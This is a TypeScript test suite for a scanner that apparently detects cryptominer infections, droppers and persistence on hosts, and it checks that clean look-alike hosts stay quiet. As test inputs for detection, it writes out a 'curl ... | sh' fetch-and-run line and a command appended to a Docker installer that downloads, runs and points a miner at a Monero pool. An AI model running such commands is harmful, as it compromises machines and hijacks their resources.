import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { XMR_WALLET, XMR_WALLET2 } from '../../../test/fixtures/hosts/build.ts';
import {
  buildPrecisionCase,
  CLEAN_PRECISION,
  type PrecisionCase,
} from '../../../test/fixtures/hosts/precision.ts';
import { SEVERITY_ORDER } from '../../findings/index.ts';
import { parseMinerConfig, stripJsonComments } from '../../sensors/host/configs.ts';
import { commandPaths } from '../../sensors/host/refs.ts';
import { defaultIntelView, type ScanResult, scanHost } from './index.ts';
import { detectConfigs } from './persistence.ts';
import { loadHostContext, parseHostContext, securityFormat } from './provenance.ts';

let base: string;
const results = new Map<PrecisionCase, ScanResult>();

async function scan(name: PrecisionCase): Promise<ScanResult> {
  let r = results.get(name);
  if (!r) {
    const root = buildPrecisionCase(name, path.join(base, name));
    r = await scanHost({ root, live: false });
    results.set(name, r);
  }
  return r;
}

function loud(r: ScanResult): string[] {
  return r.findings
    .filter((f) => SEVERITY_ORDER[f.severity] >= SEVERITY_ORDER.medium)
    .map((f) => `${f.severity} ${f.rule} ${f.evidence[0]?.path ?? ''}:${f.evidence[0]?.line ?? ''}`);
}

function find(r: ScanResult, rule: string, p: string) {
  const f = r.findings.find((x) => x.rule === rule && x.evidence.some((e) => e.path === p));
  assert.ok(
    f,
    `expected ${rule} on ${p}; got:\n${r.findings.map((x) => `${x.rule} ${x.evidence[0]?.path}`).join('\n')}`,
  );
  return f;
}

/**
 * An official installer says nothing of note: the script reader finds no campaign in it, or provenance turns
 * what it found into one info finding naming the installer.
 */
function installerQuiet(r: ScanResult, p: string): void {
  const on = r.findings.filter((x) => x.evidence.some((e) => e.path === p));
  assert.ok(
    on.every((x) => x.rule === 'host.file.official-installer' && x.severity === 'info'),
    on.map((x) => `${x.severity} ${x.rule}`).join('\n'),
  );
}

before(() => {
  base = fs.mkdtempSync(path.join(os.tmpdir(), 'minewatch-precision-'));
});
after(() => fs.rmSync(base, { recursive: true, force: true }));

describe('clean look-alike roots: no finding of medium or higher', () => {
  for (const name of CLEAN_PRECISION)
    it(`${name}`, async () => {
      const r = await scan(name);
      assert.deepEqual(loud(r), []);
      assert.equal(r.verdict.status, 'clean');
    });

  it("admin: minewatch's own block section is silent, the admin's own blocks are one info", async () => {
    const r = await scan('admin');
    const hosts = r.findings.filter((f) => f.evidence[0]?.path === '/etc/hosts');
    assert.equal(hosts.length, 1, hosts.map((f) => f.title).join('\n'));
    assert.equal(hosts[0]!.rule, 'host.hosts-file.pool-blocked');
    assert.equal(hosts[0]!.severity, 'info');
    assert.deepEqual(hosts[0]!.blocked, [
      'pool.supportxmr.com',
      'xmr.pool.minergate.com',
      'gulf.moneroocean.stream',
    ]);
    // The section is there, with hundreds of pools in it.
    const text = fs.readFileSync(path.join(base, 'admin/etc/hosts'), 'utf8');
    assert.ok(text.includes('# BEGIN minewatch') && text.split('\n').length > 200);
  });

  it('admin: installers are named as such, packaged preload libraries are info', async () => {
    const r = await scan('admin');
    installerQuiet(r, '/tmp/get-docker.sh');
    const pre = find(r, 'host.persistence.ld-preload', '/etc/ld.so.preload');
    assert.equal(pre.severity, 'info');
    assert.match(pre.title, /snoopy/);
    assert.match(pre.title, /libjemalloc2/);
    assert.ok(!r.findings.some((f) => f.rule.startsWith('host.persistence.cron')));
  });

  it('security box: each rule and list file is security content, not a mining reference', async () => {
    const r = await scan('security');
    const formats = Object.fromEntries(
      r.findings
        .filter((f) => f.rule === 'host.file.security-content')
        .map((f) => [f.evidence[0]!.path, /\(([\w-]+)/.exec(f.title)?.[1]]),
    );
    assert.equal(formats['/etc/suricata/rules/emerging-coinminer.rules'], 'ids-rules');
    assert.equal(formats['/etc/falco/falco_rules.local.yaml'], 'falco');
    assert.equal(formats['/opt/yara-rules/miners/incident-2024-031.yar'], 'yara');
    assert.equal(formats['/home/analyst/sigma/rules/dns_monero_pools.yml'], 'sigma');
    assert.equal(formats['/etc/dnsmasq.d/coinblock.conf'], 'dnsmasq-blocklist');
    assert.equal(formats['/etc/pihole/blacklist.txt'], 'domain-list');
    assert.equal(formats['/etc/unbound/unbound.conf.d/miners.conf'], 'unbound-blocklist');
    // suricata-update's output under /var/lib is not a default path; walked on request it is the same.
    const lib = await scanHost({ root: path.join(base, 'security'), live: false, paths: ['var/lib'] });
    assert.deepEqual(
      lib.findings.map((f) => `${f.rule} ${f.evidence[0]?.path}`),
      ['host.file.security-content /var/lib/suricata/rules/suricata.rules'],
    );
    // The incident notes name a pool and a wallet: a low note at most.
    assert.equal(find(r, 'host.file.mining-reference', '/root/incident-2024-031/notes.md').severity, 'low');
  });

  it('webhost: the virtualenv unit and loopback health checks are quiet', async () => {
    const r = await scan('webhost');
    assert.ok(!r.findings.some((f) => f.rule.startsWith('host.persistence.')), JSON.stringify(loud(r)));
    installerQuiet(r, '/tmp/get-docker.sh');
  });
});

describe('persistence linked to what the scan flags', () => {
  it('cron runs a script under /etc that is a dropper: the cron line is that infection', async () => {
    const r = await scan('linked');
    const c = find(r, 'host.persistence.cron', '/etc/cron.d/php-sessionclean');
    assert.equal(c.severity, 'critical');
    assert.equal(c.evidence[0]!.line, 3);
    assert.deepEqual(c.runs, ['/etc/.sysupd/upd.sh']);
    // The packaged sessionclean line stays out of it.
    assert.ok(!c.evidence.some((e) => e.path === '/etc/cron.d/php-sessionclean' && e.line === 2));
  });

  it('a unit runs a miner from /usr/sbin with its config under /usr: both read, the unit reported', async () => {
    const r = await scan('linked');
    const u = find(r, 'host.persistence.systemd', '/etc/systemd/system/dbus-broker-helper.service');
    assert.equal(u.severity, 'high');
    find(r, 'host.file.miner-binary', '/usr/sbin/dbus-brokerd');
    const cfg = find(r, 'host.file.miner-config', '/usr/lib/dbus-brokerd/broker.json');
    assert.equal(cfg.wallet, XMR_WALLET2);
    assert.deepEqual(cfg.workers, ['app03']);
    assert.ok(r.verdict.pools.includes('xmr.f2pool.com:13531'));
    assert.ok(r.verdict.persistence.includes('systemd:/etc/systemd/system/dbus-broker-helper.service'));
  });

  it('.bashrc starts a miner from /usr/share with -c: the binary and config are read, the line reported', async () => {
    const r = await scan('linked');
    assert.equal(find(r, 'host.persistence.shell-profile', '/root/.bashrc').severity, 'high');
    assert.equal(find(r, 'host.file.miner-config', '/usr/share/.fonts-cache/fc.json').wallet, XMR_WALLET);
  });

  it('authorized_keys written by Redis, and a key with a published attacker comment', async () => {
    const r = await scan('linked');
    const redis = find(r, 'host.persistence.ssh-key', '/root/.ssh/authorized_keys');
    assert.ok(redis.reasons?.some((x) => /Redis database dump/.test(x)));
    const out = find(r, 'host.persistence.ssh-key', '/home/ops/.ssh/authorized_keys');
    assert.equal(out.family, 'outlaw');
    assert.equal(out.evidence[0]!.line, 2);
  });

  it("Windows user's temp folder: SchTasks /Create, reg add Run and a Startup script, all running the dropper", async () => {
    const r = await scan('winhome');
    const temp = '/Users/bob/AppData/Local/Temp';
    find(r, 'host.file.dropper-script', `${temp}/if.ps1`);
    const task = find(r, 'host.persistence.scheduled-task', `${temp}/mkd.bat`);
    assert.equal(task.evidence[0]!.line, 4);
    assert.deepEqual(task.runs, [`${temp}/if.ps1`]);
    assert.ok(task.attack.some((a) => a.technique === 'T1053.005'));
    const run = find(r, 'host.persistence.run-key', `${temp}/mkd.bat`);
    assert.ok(run.attack.some((a) => a.technique === 'T1547.001'));
    const st = find(
      r,
      'host.persistence.startup',
      '/Users/bob/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/OneDriveSync.cmd',
    );
    assert.equal(st.severity, 'critical');
    assert.equal(r.verdict.status, 'infected');
  });

  it("a miner container image: /start.sh, /pools.txt and the binary at the root's top level", async () => {
    const r = await scan('container');
    const cfg = find(r, 'host.file.miner-config', '/pools.txt');
    assert.equal(cfg.wallet, XMR_WALLET);
    assert.deepEqual(cfg.workers, ['box7']);
    assert.equal(cfg.config_format, 'xmr-stak');
    assert.ok((find(r, 'host.file.miner-launcher', '/start.sh').runs as string[]).includes('/xmr-stak'));
    find(r, 'host.file.miner-binary', '/xmr-stak');
    assert.deepEqual(r.verdict.pools, ['xmr-eu1.nanopool.org:14444']);
  });
});

describe('miner config formats', () => {
  it('xmrig 2.x with // comments, xmr-stak pools.txt, cpuminer JSON are configs with pools and workers', async () => {
    const r = await scan('configs');
    const x2 = find(r, 'host.file.miner-config', '/opt/.x/config.json');
    assert.equal(x2.pool?.host, 'pool.minexmr.com');
    assert.equal(x2.wallet, XMR_WALLET);
    assert.deepEqual(x2.workers, ['rig7']);
    const stak = find(r, 'host.file.miner-config', '/root/.xmr-stak/pools.txt');
    assert.equal(stak.pool?.host, 'gulf.moneroocean.stream');
    const cpu = find(r, 'host.file.miner-config', '/var/tmp/.cpu/cpuminer-conf.json');
    assert.equal(cpu.config_format, 'cpuminer-json');
    assert.equal(cpu.wallet, XMR_WALLET2);
  });

  it('parseMinerConfig: e-mail logins stay whole, comments inside strings survive', () => {
    const c = parseMinerConfig(
      '{"pools":[{"url":"xmr.pool.minergate.com:45700","user":"someone@example.org", // MinerGate\n "pass":"x"}]}',
    );
    assert.deepEqual(c?.pools, [
      { url: 'xmr.pool.minergate.com:45700', user: 'someone@example.org', pass: 'x' },
    ]);
    assert.equal(stripJsonComments('{"u":"http://a/b", /* c */ "v":1,}'), '{"u":"http://a/b",  "v":1}');
    assert.equal(parseMinerConfig('not json at all'), undefined);
  });
});

describe('pieces', () => {
  it('commandPaths maps Windows paths and variables onto the root', () => {
    assert.deepEqual(commandPaths('powershell -f %TEMP%\\if.ps1', 'bob'), [
      '/Users/bob/AppData/Local/Temp/if.ps1',
    ]);
    assert.deepEqual(commandPaths('C:\\ProgramData\\x\\m.exe -o a'), ['/ProgramData/x/m.exe']);
    assert.deepEqual(commandPaths('*/5 * * * * root sh /etc/.x/u.sh >/dev/null 2>&1'), ['/etc/.x/u.sh']);
    // Written, not run: a redirection target, a log passed to a JVM (and 'gc:' is no drive letter).
    assert.deepEqual(commandPaths('sh /etc/x.sh >> /var/log/x.log 2>&1'), ['/etc/x.sh']);
    assert.deepEqual(commandPaths('java -Xlog:gc:/srv/gc.log -jar /opt/a.jar -c /opt/app.conf'), [
      '/opt/app.conf',
    ]);
  });

  it('securityFormat refuses a rule file with a shell line among the rules', () => {
    const rules =
      'alert dns any any -> any any (msg:"x"; dns.query; content:"pool.supportxmr.com"; sid:1; rev:1;)\n';
    assert.equal(securityFormat(rules.repeat(8))?.format, 'ids-rules');
    assert.equal(securityFormat(`${rules.repeat(8)}curl -s http://198.51.100.9/x | sh\n`), undefined);
  });

  it('a patched installer carrying a pool and a wallet keeps its findings', async () => {
    const root = path.join(base, 'patched');
    fs.mkdirSync(path.join(root, 'tmp'), { recursive: true });
    fs.mkdirSync(path.join(root, 'etc'), { recursive: true });
    const docker = fs.readFileSync(path.join(base, 'admin/tmp/get-docker.sh'), 'utf8');
    fs.writeFileSync(
      path.join(root, 'tmp/get-docker.sh'),
      `${docker}curl -s http://198.51.100.9/x -o /tmp/x && chmod +x /tmp/x && /tmp/x -o stratum+tcp://pool.supportxmr.com:3333 -u ${XMR_WALLET}\n`,
    );
    const r = await scanHost({ root, live: false });
    assert.ok(!r.findings.some((f) => f.rule === 'host.file.official-installer'));
    assert.equal(find(r, 'host.file.dropper-script', '/tmp/get-docker.sh').severity, 'critical');
  });

  it("the root's swap file and disk images are not read as top-level files", async () => {
    const root = path.join(base, 'swap');
    fs.mkdirSync(path.join(root, 'etc'), { recursive: true });
    for (const name of ['swapfile', 'disk.img']) {
      const fd = fs.openSync(path.join(root, name), 'w');
      fs.writeSync(fd, `stratum+tcp://pool.supportxmr.com:3333 ${XMR_WALLET}`);
      fs.closeSync(fd);
    }
    fs.writeFileSync(
      path.join(root, 'run.sh'),
      `#!/bin/sh\n./xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u ${XMR_WALLET}\n`,
    );
    const r = await scanHost({ root, live: false });
    assert.deepEqual([...new Set(r.findings.map((f) => f.evidence[0]?.path))], ['/run.sh']);
  });

  it('a task starting a program from a Windows temp folder is medium even with nothing linked', () => {
    const task = (cmd: string) =>
      detectConfigs(
        [
          {
            kind: 'scheduled-task',
            path: '/Windows/System32/Tasks/Updater',
            text: `<Task>\n<Actions><Exec>\n<Command>${cmd}</Command>\n</Exec></Actions>\n</Task>\n`,
            size: 100,
            mtimeMs: 0,
            truncated: false,
            binaryJunk: false,
          },
        ],
        defaultIntelView(),
        { plantedKeys: new Map() },
      );
    assert.equal(task('%TEMP%\\upd\\svchost.exe')[0]?.severity, 'medium');
    assert.deepEqual(task('C:\\Program Files\\Vendor\\update.exe'), []);
  });

  it('the host-context data has a source for every entry', () => {
    const ctx = loadHostContext();
    assert.ok(ctx.installers.length >= 5 && ctx.security_dirs.length >= 5);
    assert.throws(() => parseHostContext('{"schema":"x"}', 'f.json'), /schema/);
    assert.throws(
      () =>
        parseHostContext(
          JSON.stringify({
            schema: 'minewatch-intel/host-context@1',
            installers: [{ id: 'a', markers: [] }],
            security_dirs: [],
            ssh_key_comments: [],
          }),
          'f.json',
        ),
      /markers/,
    );
  });
});
